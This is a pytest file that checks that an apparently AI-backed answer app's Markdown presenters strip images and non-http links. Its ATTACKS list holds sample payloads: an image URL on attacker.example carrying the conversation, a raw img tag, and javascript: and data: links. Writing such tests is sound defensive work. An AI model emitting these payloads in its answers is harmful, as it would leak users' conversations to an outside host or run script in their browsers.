"""What the app renders from the knowledge base or a model can make the browser fetch nothing and
can only link to http(s) pages. Checked on the HTML a CommonMark renderer makes of our Markdown."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from agents.presenters import answer_markdown, passage_markdown, sources_markdown

ATTACKS = [
    "![t](https://attacker.example/leak.png?d=conversation)",
    "![logo][img]\n\n[img]: https://attacker.example/logo.png",
    '<img src="https://attacker.example/x.png">',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[ok](<https://example.org/a> [evil](javascript:alert(1)))",
]


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": False}).render(markdown)


def _assert_harmless(html: str) -> None:
    assert "<img" not in html
    assert all(href.startswith(("http://", "https://")) for href in re.findall(r'href="([^"]*)"', html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_cannot_load_an_image_or_link_to_another_scheme(attack: str) -> None:
    _assert_harmless(_html(answer_markdown(f"Voici [1]. {attack}", [{"number": 1, "url": "https://a.org"}])))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cited_passage_cannot_either(attack: str) -> None:
    _assert_harmless(_html(passage_markdown({"number": 1, "title": "T", "text": f"Texte.\n{attack}"})))


def test_a_source_url_holding_markdown_stays_one_link_to_itself() -> None:
    url = "https://example.org/page>)[evil](javascript:alert(1)"

    html = _html(sources_markdown([{"number": 1, "title": "Page", "url": url}]))

    _assert_harmless(html)
    assert html.count("<a ") == 1 and "evil" not in html.split("</a>")[1]


def test_a_source_that_is_not_a_web_page_is_not_a_link() -> None:
    html = _html(sources_markdown([{"number": 1, "title": "Guide", "url": "data:text/html,x"}]))

    assert "<a " not in html
